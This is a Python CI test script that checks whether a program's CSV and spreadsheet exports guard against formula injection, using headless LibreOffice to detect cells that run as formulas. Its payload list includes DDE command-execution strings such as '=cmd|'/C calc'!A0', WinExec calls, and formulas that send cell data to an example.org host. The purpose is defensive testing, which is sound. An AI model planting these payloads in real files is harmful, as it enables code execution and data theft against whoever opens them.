#!/usr/bin/env python3
"""Shows that no cell runs as a formula: python3 .ci/formulas.py PROGRAM|FILE...

PROGRAM is given 60 values that spreadsheet programs run, and more that hide behind separators. It lists them in a
findings.csv, and hands them over in the credentials.csv, credentials.xlsx and manifest.csv of a bag. These and each
other FILE (.csv, .xlsx, .ods) are opened in LibreOffice, text with commas and again with semicolons and tabs between
its cells, and no cell may hold a formula. That the same values unguarded do run is looked at first. Needs `soffice`
with Calc.
"""

import argparse
import csv
import json
import shutil
import subprocess
import sys
import tempfile
from pathlib import Path
from xml.etree import ElementTree

ROOT = Path(__file__).resolve().parents[1]
TABLE = "{urn:oasis:names:tc:opendocument:xmlns:table:1.0}"

PAYLOADS = [
    # plain
    "=1+1", "+1+1", "-1+1", "@SUM(1+1)", "=A1", "+A1", "-A1", "=SUM(A1:A9)", "=1", "=-1", "=+1", "==1", "=(1)", "=\"a\"",
    "=TRUE", "=NOW()", "=A1&B1", "=1E3", "+1+1+1", "-2+3+cmd", "=ROW()", "={1;2}", "=$A$1", "=R1C1",
    # that reach out
    '=HYPERLINK("http://example.org/?x="&A1,"click")', '=WEBSERVICE("http://example.org/"&A1)',
    "=IMPORTXML(CONCAT(\"http://example.org/\",A1),\"//a\")", "=IMAGE(\"http://example.org/x.png\")",
    "=cmd|'/C calc'!A0", "+cmd|'/C calc'!A0", "-cmd|'/C calc'!A0", "@cmd|'/C calc'!A0", "=cmd|' /C notepad'!'A1'",
    "=DDE(\"soffice\";\"/etc/hostname\";\"A1\")", "=DDE(\"cmd\",\"/C calc\",\"x\")", "=MSEXCEL|'\\..\\..\\..\\x.exe'!''",
    "='file:///etc/hostname'#$Sheet1.A1", "=rundll32|'URL.dll,OpenURL calc.exe'!A", "@SUM(1+1)*cmd|' /C calc'!A0",
    "=2+5+cmd|' /C calc'!A0", "=INDIRECT(\"A\"&1)", "=EXEC(\"calc\")", "=CALL(\"kernel32\",\"WinExec\",\"JCJ\",\"calc\",0)",
    # behind white space
    " =1+1", "   +1+1", "\u00a0=1+1", "\t=1+1", "\r=1+1", "\n=1+1", "\t\t@SUM(1)", "\r\n=1+1", " \t =1+1",
    # in other forms and quotes
    "\uff1d1+1", "\uff0b1+1", "\uff0d1+1", "\uff20SUM(1)", "\"=1+1\"", "=\"=1+1\"", "'=1+1", "=1+1\n=2+2",
]
# Where cells end at semicolons, tabs or line breaks, these begin one in the middle.
INSIDE = ["a;=1+1;b", "a\t=1+1\tb", "a\n=1+1\nb", "a;\"=1+1\";b", "a; @SUM(1+1);", "\",\"=1+1\",\"", "a\r=1+1", ";=1+1", "x\";=1+1;\""]


def listed(program, folder):
    """A findings.csv in which each payload stands as a value and as an id."""
    records, out = folder / "payloads.ndjson", folder / "findings.csv"
    payloads = PAYLOADS + INSIDE
    with open(records, "w", encoding="utf-8") as file:
        for payload in payloads:
            record = {"recipient": {"name": "Ada"}, "credential": {"id": payload}, "attributes": {"contact": payload}}
            file.write(json.dumps(record) + "\n")
    subprocess.run([program, "check", ROOT / "tests/data/preflight", "--records", records, "--findings", out, "--quiet"],
                   stderr=subprocess.DEVNULL)
    with open(out, encoding="utf-8-sig", newline="") as file:
        values = [row["value"] for row in csv.DictReader(file) if row["column"] == "attributes.contact"]
    if [value.replace("'", "") for value in values] != [payload.replace("'", "") for payload in payloads]:
        sys.exit(f"error: {len(values)} of {len(payloads)} values are in findings.csv as they were")
    return out


def handed_over(program, folder):
    """The tables of a bag in which each payload stands as an id and in fields that are not drawn."""
    records, out = folder / "owned.ndjson", folder / "bag"
    payloads = PAYLOADS + INSIDE
    with open(records, "w", encoding="utf-8") as file:
        for payload in payloads:
            record = {"recipient": {"name": "Ada", "id": payload}, "group": {"name": payload},
                      "credential": {"id": payload, "description": payload}, "attributes": {"license_number": "007316"}}
            file.write(json.dumps(record) + "\n")
    subprocess.run([program, "batch", "badge", "--records", records, "-o", out, "--bag", "--no-preflight", "--quiet",
                    "--width", "64"], check=True)
    tables = [out / "data" / name for name in ("credentials.csv", "credentials.xlsx", "manifest.csv")]
    with open(tables[0], encoding="utf-8-sig", newline="") as file:
        if len(list(csv.DictReader(file))) != len(payloads):
            sys.exit("error: not all records are in credentials.csv")
    return tables


def formulas(files, separator, folder):
    """The formulas in files as LibreOffice opens them, by the files' names."""
    out = folder / f"opened-{ord(separator)}"
    # UTF-8, from the first line, any language, numbers found, formulas run.
    text = f"CSV:{ord(separator)},34,76,1,,0,false,true,false,false,false,0,true"
    for ending, rule in [(".csv", [f"--infilter={text}"]), ("", [])]:
        some = [file for file in files if (file.suffix == ".csv") == bool(ending)]
        if some:
            subprocess.run(["soffice", f"-env:UserInstallation=file://{folder}/profile", "--headless", *rule,
                            "--convert-to", "fods", "--outdir", out, *some], check=True, stdout=subprocess.DEVNULL,
                           stderr=subprocess.DEVNULL, timeout=300)
    found = {}
    for file in files:
        cells = ElementTree.parse(out / f"{file.stem}.fods").iter(f"{TABLE}table-cell")
        found[file.name] = [cell.get(f"{TABLE}formula") for cell in cells if cell.get(f"{TABLE}formula")]
    return found


def main():
    parser = argparse.ArgumentParser(description="Shows that no cell runs as a formula.")
    parser.add_argument("given", nargs="+", type=Path, metavar="PROGRAM|FILE")
    given = parser.parse_args().given
    if not shutil.which("soffice"):
        sys.exit("error: soffice is missing: apt-get install -y --no-install-recommends libreoffice-calc")
    wrong = 0
    with tempfile.TemporaryDirectory() as name:
        folder = Path(name)
        control = folder / "control.csv"
        with open(control, "w", encoding="utf-8", newline="") as file:
            csv.writer(file).writerows([payload] for payload in PAYLOADS)
        files = [control]
        for number, path in enumerate(given):
            some = [path]
            if path.suffix not in (".csv", ".xlsx", ".ods"):
                some = [listed(path.resolve(), folder), *handed_over(path.resolve(), folder)]
            for path in some:
                # Under a name of its own, since all are opened into one folder.
                files.append(folder / f"{number}-{path.stem}-{path.suffix[1:]}{path.suffix}")
                shutil.copy(path, files[-1])
        for separator in ",;\t":
            found = formulas(files if separator == "," else [f for f in files if f.suffix == ".csv"], separator, folder)
            control_found = found.pop(control.name)
            if len(control_found) < 20:
                sys.exit(f"error: only {len(control_found)} values run unguarded: this LibreOffice shows nothing")
            for file, run in found.items():
                wrong += len(run)
                print(f"{file}, cells parted by {separator!r}: {len(run)} formulas {run[:5] if run else ''} "
                      f"({len(control_found)} unguarded)")
    sys.exit(1 if wrong else 0)


if __name__ == "__main__":
    main()
